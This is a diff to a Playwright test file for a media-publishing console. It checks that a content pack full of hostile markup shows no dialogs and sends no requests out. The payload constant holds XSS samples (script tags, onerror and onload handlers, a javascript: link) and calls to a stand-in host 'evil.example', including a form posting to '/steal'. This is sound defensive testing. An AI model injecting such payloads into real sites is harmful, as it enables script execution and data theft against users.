@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import io
 import re
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import urlparse
 
 from console_fixtures import PASSWORD
@@ -12,7 +14,7 @@ from openpyxl import load_workbook
 from playwright.sync_api import Page, expect
 
 from media_matrix.models import Item, PackStatus
-from media_matrix.timeutil import now_iso
+from media_matrix.timeutil import from_iso, now_iso
 
 
 def sign_in(page: Page, server: str, name: str) -> None:
@@ -75,14 +77,18 @@ def test_editor_and_operator_flow(console, server, browser, shots):
     page.click("text=排入日历…")
     page.select_option("select[name=channel]", "qingfeng-media-centre")
     page.click("form.filters button[type=submit]")
-    slot = page.locator("div.slot.free").first
-    slot.locator("input[name=pack_id]").fill(str(pack_id))
-    slot.locator("button[type=submit]").click()
+    form = page.locator("section.channel form.queue").first
+    form.locator("input[name=pack_id]").fill(str(pack_id))
+    first_open = form.locator("select[name=at] option").first.get_attribute("value")
+    form.locator("select[name=at]").select_option(first_open)
+    form.locator("button[type=submit]").click()
     expect(page.locator(".flash.ok")).to_contain_text(f"内容包 {pack_id}")
     expect(page.locator("#proposals table.proposals")).to_be_visible()  # 拟排, loaded by htmx
     snap(page, shots, "05-calendar")
     booked = [d for d in store.list_deliveries(pack_id=pack_id) if d["status"] == "queued"]
     assert [d["channel"] for d in booked] == ["qingfeng-media-centre"]
+    assert from_iso(booked[0]["scheduled_at"]) == from_iso(first_open)
+    expect(page.locator("div.slot .item").first).to_contain_text(f"#{pack_id}")
     # the fill preview (htmx) shows what would be added before anything is written
     before = len(store.list_deliveries())
     page.click("text=预览将排入的内容")
@@ -151,51 +157,82 @@ def test_editor_and_operator_flow(console, server, browser, shots):
 
 HOSTILE = (
     "<p>台风来临前的准备</p>"
-    "<script>alert('script')</script>"
+    "<script>alert('script'); new Image().src = '{spy}/script'</script>"
     '<img src="https://evil.example/pixel.png" onerror="alert(\'onerror\')">'
+    '<img src="{spy}/pixel.png">'
     '<a id="js" href="javascript:alert(\'link\')">点这里领取奖品</a>'
-    '<iframe src="https://evil.example/frame"></iframe>'
-    '<form action="https://evil.example/steal"><input name="x"></form>'
-    '<style>@import url("https://evil.example/style.css");</style>'
+    '<iframe src="{spy}/frame"></iframe>'
+    '<form action="{spy}/steal"><input name="x"></form>'
+    '<style>@import url("{spy}/style.css");</style>'
+    '<link rel="stylesheet" href="https://evil.example/style.css">'
     "<svg onload=\"alert('svg')\"></svg>"
+    '<video src="{spy}/video.mp4" autoplay></video>'
 )
 
 
+class Spy(BaseHTTPRequestHandler):
+    """An outside host on another loopback port: it records every request that reaches it."""
+
+    hits: list[str] = []
+
+    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
+        Spy.hits.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
 def test_hostile_pack_runs_nothing(console, server, browser, shots):
+    spy = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
+    threading.Thread(target=spy.serve_forever, daemon=True).start()
+    spy_url = f"http://127.0.0.1:{spy.server_address[1]}"
     item = Item(
         guid="hostile",
         title="台风防御知识 (恶意标记测试)",
-        content_html=HOSTILE,
+        content_html=HOSTILE.replace("{spy}", spy_url),
         text="台风",
         content_hash="hostile-hash",
     )
     pack_id = console.store.insert_pack("test", item, at=now_iso(), status=PackStatus.NEW)
     page = browser.new_page(viewport={"width": 1366, "height": 900})
     dialogs: list[str] = []
-    requests: list[str] = []
+    outside: dict[str, str] = {}  # url -> how it ended
+    own = urlparse(server).netloc
+
+    def note(request, how: str) -> None:
+        if (
+            urlparse(request.url).scheme in ("http", "https")
+            and urlparse(request.url).netloc != own
+        ):
+            outside[request.url] = how
+
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-    page.on("request", lambda r: requests.append(r.url))
+    page.on("request", lambda r: note(r, "started"))
+    page.on("requestfailed", lambda r: note(r, f"failed: {r.failure}"))
+    page.on("requestfinished", lambda r: note(r, "finished"))
     sign_in(page, server, "editor")
-    for url in (
-        f"/packs/{pack_id}",
-        f"/packs/{pack_id}/preview/puyang-kexie-wechat",
-        f"/packs/{pack_id}/preview/hualong-square-screen",
-    ):
-        page.goto(server + url)
-        page.wait_for_load_state("networkidle")
-        frame = page.frames[-1]
-        assert frame != page.main_frame
-        # the javascript: link, clicked, runs nothing either
-        link = frame.locator("a#js")
-        if link.count():
-            link.click(timeout=2000)
+    try:
+        for url in (
+            f"/packs/{pack_id}",
+            f"/packs/{pack_id}/preview/puyang-kexie-wechat",
+            f"/packs/{pack_id}/preview/hualong-square-screen",
+        ):
+            page.goto(server + url)
+            page.wait_for_load_state("networkidle")
+            frames = [f for f in page.frames if f != page.main_frame]
+            assert frames, "pack markup is shown in a frame"
+            for frame in frames:
+                link = frame.locator("a#js")
+                if link.count():  # the javascript: link, clicked, runs nothing either
+                    link.click(timeout=2000)
             page.wait_for_timeout(300)
-    snap(page, shots, "14-hostile-pack")
+        page.goto(f"{server}/packs/{pack_id}/body")  # the frame's own page, for the eye
+        snap(page, shots, "14-hostile-pack")
+    finally:
+        spy.shutdown()
     assert dialogs == []
-    outside = [
-        u
-        for u in requests
-        if urlparse(u).scheme in ("http", "https") and urlparse(u).hostname != "127.0.0.1"
-    ]
-    assert outside == [], outside
-    page.close()
+    assert Spy.hits == [], Spy.hits
+    # the browser may log a fetch it then refuses: none may leave (blocked by the policy)
+    assert all(how == "failed: csp" for how in outside.values()), outside
